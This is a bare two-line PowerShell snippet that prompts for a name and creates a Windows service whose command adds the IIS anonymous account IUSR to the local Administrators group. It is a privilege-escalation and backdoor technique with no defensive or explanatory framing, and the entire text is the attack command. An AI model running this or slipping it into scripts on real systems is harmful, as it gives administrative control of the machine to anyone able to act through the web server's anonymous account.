$name = Read-Host
New-Service -Name $name -BinaryPathName 'cmd /c net localgroup Administrators IUSR /add'
